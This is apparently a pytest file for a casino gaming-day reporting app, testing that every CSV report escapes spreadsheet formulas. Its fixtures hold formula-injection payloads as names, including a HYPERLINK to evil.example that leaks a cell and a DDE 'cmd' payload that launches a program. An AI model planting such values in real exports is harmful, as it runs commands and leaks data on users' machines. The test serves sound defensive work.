"""No report CSV carries a live spreadsheet formula (docs/reports.md, "Cells a spreadsheet
would run"): a patron, a table or a void reason named like a formula is written as text.

The compliance day (tests/builders/reports.py) with its names replaced by formulas; every
CSV report is generated and every cell read back as a spreadsheet would read it.
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from fees.services import schedules
from tables.models import Player, Table
from tests.builders.reports import DAY, NEXT_DAY, plant_tppp_hand
from tests.reports.helpers import generate_bytes, read_csv

pytestmark = pytest.mark.django_db

TABLE = '=HYPERLINK("http://evil.example/?"&A1,"Day table")'
PATRON = "=cmd|' /C calc'!A0"
DEALER = "@SUM(A1:A9)"
TPPP = "+1+2"
NUMBER = "-2+3"
VOID = "=1+2 misdeal"
# A cell a spreadsheet would run: a formula character first, and not a plain number.
LIVE = re.compile(r"[=+@|%\t\r]|-(?!-?[0-9,.]+$)")


@pytest.fixture
def formula_day(day):
    Table.objects.filter(pk=day.table.pk).update(name=TABLE)
    Player.objects.filter(pk=day.p3.pk).update(name=PATRON)
    Player.objects.filter(pk=day.player(6).pk).update(name=DEALER)
    Player.objects.filter(pk=day.player(5).pk).update(name=TPPP, player_number=NUMBER)
    plant_tppp_hand(day, void_reason=VOID)
    return day


def cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]


def assert_no_live_cell(data: bytes) -> None:
    live = [cell for cell in cells(data) if LIVE.match(cell)]
    assert live == []


@pytest.mark.parametrize("report", ["rotation", "banking", "audit", "currency", "table_activity"])
def test_no_report_csv_carries_a_formula(formula_day, report):
    data = generate_bytes(report, gaming_day=DAY)[0]
    assert_no_live_cell(data)
    assert "'" + TABLE in cells(data)


def test_the_currency_log_names_the_patron_as_text(formula_day):
    _, sections = read_csv(generate_bytes("currency", gaming_day=DAY)[0])
    rows = sections["Currency transactions per patron per gaming day"]
    assert "'=cmd\\|' /C calc'!A0" in {row["player_name"] for row in rows}
    ctr = sections["Currency Transaction Report candidates: over $10,000 in one gaming day"]
    assert [(row["player_name"], row["cash_in_cents"]) for row in ctr] == [
        ("'=cmd\\|' /C calc'!A0", "1050000")
    ]


def test_the_banking_report_keeps_negative_amounts_as_numbers(formula_day):
    _, sections = read_csv(generate_bytes("banking", gaming_day=DAY)[0])
    (patron,) = sections["Other player-dealers by gaming day"]
    assert (patron["player_name"], patron["result_cents"]) == ("'" + DEALER, "-10000")
    (tppp,) = sections["TPPP player-dealers by gaming day"]
    assert (tppp["player"], tppp["player_name"]) == ("'" + NUMBER, "'" + TPPP)


def test_the_audit_export_neutralises_names_and_the_void_reason(formula_day):
    _, sections = read_csv(generate_bytes("audit", gaming_day=DAY)[0])
    rounds = sections["Rounds"]
    assert {row["table"] for row in rounds} == {"'" + TABLE}
    assert [row["void_reason"] for row in rounds] == ["", "", "'" + VOID]
    assert [row["bank_result_cents"] for row in rounds][:1] == ["-10000"]


def test_the_fee_filing_csv_neutralises_the_schedule_and_the_table(formula_day):
    supervisor = formula_day.mt.staff.supervisor
    schedule = schedules.create_schedule(name=PATRON, table_id=formula_day.table.pk, by=supervisor)
    schedules.create_version(
        schedule_id=schedule.pk,
        rates=[
            {
                "wager_from_cents": 100,
                "wager_to_cents": 10_000,
                "player_fee_cents": 50,
                "player_dealer_fee_cents": 25,
            },
        ],
        player_dealer_basis="per_betting_square",
        by=supervisor,
    )
    data = generate_bytes("fee_filing", gaming_day=NEXT_DAY)[0]
    assert_no_live_cell(data)
    identity = list(csv.reader(io.StringIO(data.decode())))[1][:2]
    assert identity == ["'" + TABLE, "'=cmd\\|' /C calc'!A0"]
